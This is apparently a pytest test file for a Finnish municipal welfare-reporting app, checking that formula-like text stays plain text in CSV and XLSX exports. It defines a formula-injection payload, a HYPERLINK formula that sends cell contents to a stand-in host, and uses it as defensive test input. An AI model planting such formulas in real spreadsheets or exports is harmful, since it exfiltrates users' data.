"""Text that would start a formula stays text in every export: CSV cells get an apostrophe, XLSX cells are typed
text, never live formulas (issue 14: hostile input)."""

from __future__ import annotations

import csv
import io

import openpyxl

from hyte.reports import services
from tests.conftest import approve_and_publish, kemi_values

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")'


def _cells(data: bytes) -> list[tuple[object, str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [(cell.value, cell.data_type) for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _no_formula_and_text_kept(data: bytes, text: str) -> None:
    cells = _cells(data)
    assert all(data_type != "f" for _value, data_type in cells)
    assert (text, "s") in cells


def test_plan_budget_situation_and_open_data_exports_keep_formulas_as_text(world):
    coordinator = world.users["coordinator"]
    world.own_indicator.title_fi = FORMULA
    world.own_indicator.save()
    kemi_values(world, b"240;2023;52\n240;2024;55,5\n")
    plan = services.create_report(
        actor=coordinator, organisation=world.kemi, kind="broad", title="HYTE", term_start=2025, term_end=2029
    )
    goal = services.add_goal(actor=coordinator, report=plan, text=FORMULA)
    measure = services.add_measure(actor=coordinator, goal=goal, text="=1+2")
    services.set_budget_line(actor=coordinator, measure=measure, year=2026, branch="=2*3", part="operating", amount=5)
    client = world.client_for("coordinator")

    _no_formula_and_text_kept(client.get(f"/o/kemi/reports/{plan.pk}/export.xlsx").content, FORMULA)
    _no_formula_and_text_kept(client.get(f"/o/kemi/reports/{plan.pk}/budget.xlsx?year=2026").content, "=2*3")
    world.indicator_set.indicators.add(world.own_indicator)
    situation = client.get("/o/kemi/situation/export.xlsx")
    assert situation.status_code == 200
    assert all(data_type != "f" for _value, data_type in _cells(situation.content))

    approve_and_publish(plan, coordinator)
    version = plan.versions.get(status="published")
    public = client.get(f"/public/data/kemi/{plan.pk}/v{version.number}/report.xlsx")
    _no_formula_and_text_kept(public.content, FORMULA)
    goals_csv = client.get(f"/public/data/kemi/{plan.pk}/v{version.number}/goals-excel.csv")
    assert "'" + FORMULA.replace('"', '""') in goals_csv.content.decode("utf-8-sig")


def test_the_observation_csv_escapes_titles(world):
    world.own_indicator.title_fi = FORMULA
    world.own_indicator.save()
    kemi_values(world, b"240;2024;55,5\n")
    response = world.client_for("reader").get("/api/v1/observations.csv?indicator=own:KH1")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode()), delimiter=";"))
    assert rows[1][1] == "'" + FORMULA
